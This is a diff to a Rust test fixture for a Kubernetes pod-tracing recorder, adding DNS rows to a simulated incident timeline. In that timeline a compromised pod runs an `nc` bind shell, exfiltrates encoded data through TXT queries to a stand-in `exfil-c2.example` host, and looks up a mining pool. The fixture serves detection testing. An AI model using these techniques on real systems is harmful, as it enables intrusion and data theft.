@@ -27,12 +27,21 @@
 //!   accepts both connections above); kubelet listens on 10250 (host); at
 //!   T0+43m pod C's shell runs `nc -lp 4444` (a bind shell) and at T0+44m opens
 //!   a raw packet socket (`tcpdump`, refused: EPERM).
+//! - DNS (resolver kube-dns 10.96.0.10, backend CoreDNS 10.244.0.5): pod A's
+//!   curl resolves `ledger.payments.svc.cluster.local` (A 10.96.0.20; its
+//!   AAAA is empty) just before its connection, which carries that name; pod
+//!   A's app resolves `api.stripe.example` (A 203.0.113.50) before it connects
+//!   there. Pod C's miner connects to 198.51.100.7 and its shell to pod B's
+//!   address without a lookup (direct to IP); at T0+45m pod C's shell sends
+//!   four long TXT queries under `exfil-c2.example` (data in the names,
+//!   NXDOMAIN) and one query for `pool.minexmr.example` that gets no answer.
 
 use std::net::IpAddr;
 use std::path::Path;
 use std::sync::Arc;
 
-use podtrail_recorder::rows::{CapRow, ConnRow, ExecRow, ExitRow, ListenRow, PodIdentity, PrivRow, RowSet};
+use podtrail_recorder::rows::{CapRow, ConnRow, DnsRow, ExecRow, ExitRow, ListenRow, PodIdentity, PrivRow, RowSet};
+use podtrail_recorder::dns::DnsRaw;
 use podtrail_recorder::decode::{ConnRaw, ExecRaw, ExitRaw, ListenRaw, PrivRaw};
 use podtrail_recorder::privilege::CapDelta;
 use podtrail_recorder::segments::{ContainerRecord, IpOwnerRecord, LossRecord, PodRecord};
@@ -169,11 +178,50 @@ impl Builder {
             nat_dst: nat.map(a),
             bytes: None,
             error: None,
+            dst_name: None,
         };
         let close = ConnRaw { event: "close", bytes: Some((bytes.0, bytes.1, dur as u64)), ..raw.clone() };
         let exec_id = p.map(|p| p.exec_id);
         self.b.conn.push(ConnRow { time: t, raw, exec_id, identity: ident(pod) });
         self.b.conn.push(ConnRow { time: t + dur, raw: close, exec_id, identity: ident(pod) });
+    }
+}
+
+impl Builder {
+    /// The last connection written (its connect and close rows) was to an
+    /// address its pod had resolved as `name`.
+    fn named(&mut self, name: &str) {
+        let n = self.b.conn.rows.len();
+        for r in &mut self.b.conn.rows[n - 2..] {
+            r.raw.dst_name = Some(name.into());
+        }
+    }
+
+    /// A DNS query by `p` in `pod` to kube-dns (answered by CoreDNS), with its
+    /// answer `latency` later (`rcode`, `answers` as stored) or none (`latency` None).
+    #[expect(clippy::too_many_arguments, reason = "a fixture builder: each argument is one field of the row it writes")]
+    fn dns(&mut self, t: i64, pod: &Pod, p: &Proc, txid: u16, name: &str, qtype: u16, latency: Option<u64>, rcode: u8, answers: &[&str]) {
+        let ip = |s: &str| s.parse::<IpAddr>().expect("fixture IP");
+        let raw = DnsRaw {
+            status: if latency.is_some() { "answered" } else { "unanswered" },
+            time_boot_ns: 0,
+            cgroup_id: pod.cgroup,
+            cookie: u64::from(txid),
+            owner: Some((p.pid, "proc".into())),
+            transport: "udp",
+            family: "ipv4",
+            txid,
+            question: Some((name.into(), qtype)),
+            src: (ip(pod.ip), 50000 + txid % 1000),
+            resolver: (ip("10.96.0.10"), 53),
+            answered_by: latency.map(|_| (ip("10.244.0.5"), 53)),
+            rcode: latency.map(|_| rcode),
+            answer_count: latency.map(|_| answers.len() as u16),
+            answers: (!answers.is_empty()).then(|| answers.join("; ")),
+            latency_ns: latency,
+            parse_error: None,
+        };
+        self.b.dns.push(DnsRow { time: t, raw, exec_id: Some(p.exec_id), identity: ident(pod) });
     }
 }
 
@@ -192,11 +240,16 @@ pub fn write(dir: &Path) -> anyhow::Result<()> {
     // T0+5m: a shell in pod A, curl to the ledger Service.
     let sh = w.exec(T0 + 5 * M, Some(a), 3100, Some(&api), 0, &["/bin/sh", "-c", "curl -s http://ledger.payments/balance"]);
     let curl = w.exec(T0 + 5 * M + 10_000_000, Some(a), 3101, Some(&sh), 0, &["/usr/bin/curl", "-s", "http://ledger.payments/balance"]);
+    w.dns(T0 + 5 * M + S / 2, a, &curl, 101, "ledger.payments.svc.cluster.local", 1, Some(1_200_000), 0, &["ledger.payments.svc.cluster.local A 10.96.0.20 ttl=30"]);
+    w.dns(T0 + 5 * M + S / 2 + 1000, a, &curl, 102, "ledger.payments.svc.cluster.local", 28, Some(1_100_000), 0, &[]);
     w.conn(T0 + 5 * M + S, 2 * S, "connect", a, Some(&curl), 1, ("10.244.1.7", 41000), ("10.96.0.20", 80), Some(("10.244.1.8", 8080)), (120, 4096));
+    w.named("ledger.payments.svc.cluster.local");
     w.conn(T0 + 5 * M + S + 50_000, 2 * S, "accept", b, None, 2, ("10.244.1.8", 8080), ("10.244.1.7", 41000), None, (4096, 120));
     w.exit(T0 + 5 * M + 4 * S, T0 + 5 * M + 10_000_000, Some(a), &curl, 0);
     w.exit(T0 + 5 * M + 5 * S, T0 + 5 * M, Some(a), &sh, 0);
+    w.dns(T0 + 6 * M - S, a, &api, 103, "api.stripe.example", 1, Some(9_000_000), 0, &["api.stripe.example A 203.0.113.50 ttl=60"]);
     w.conn(T0 + 6 * M, 30 * S, "connect", a, Some(&api), 3, ("10.244.1.7", 41500), ("203.0.113.50", 443), None, (50_000, 700));
+    w.named("api.stripe.example");
     w.exit(a.to.expect("A is deleted"), a.from, Some(a), &api, 0);
     // Pod C gets 10.244.1.7.
     let csh = w.exec(c.from, Some(c), 4000, None, 0, &["/bin/sh"]);
@@ -206,6 +259,11 @@ pub fn write(dir: &Path) -> anyhow::Result<()> {
     w.conn(T0 + 42 * M + 50_000, S, "accept", b, Some(&ledger), 6, ("10.244.1.8", 8080), ("10.244.1.7", 42100), None, (20, 10));
     let nc = w.exec(T0 + 43 * M, Some(c), 4300, Some(&csh), 0, &["/usr/bin/nc", "-lp", "4444"]);
     w.listen(T0 + 43 * M + 1000, Some(c), &nc, "nc", 4444);
+    // DNS exfiltration: data in the query names, then a lookup nobody answers.
+    for (i, chunk) in ["mzxw6ytboi2dmnzqgezdgnbvgy3tqojq", "nbswy3dpeb3w64tmmqqhg2lddjqxa3lf", "onxw2zlumfzgszdfmfzgk3ttmuqgc3th", "gezdgnbvgy3tqojqgezdgnbvgy3tqojq"].iter().enumerate() {
+        w.dns(T0 + 45 * M + i as i64 * S, c, &csh, 300 + i as u16, &format!("{chunk}.{i}.x.exfil-c2.example"), 16, Some(20_000_000), 3, &[]);
+    }
+    w.dns(T0 + 45 * M + 10 * S, c, &csh, 310, "pool.minexmr.example", 1, None, 0, &[]);
     let tcpdump = w.exec(T0 + 44 * M, Some(c), 4400, Some(&csh), 1000, &["/usr/bin/tcpdump", "-i", "any"]);
     // socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) without CAP_NET_RAW.
     w.privilege(T0 + 44 * M + 1000, c, &tcpdump, 1000, "socket", [17, 3, 0x0300, 0, 0, 0], [0; 3], [None, None, None], -1);
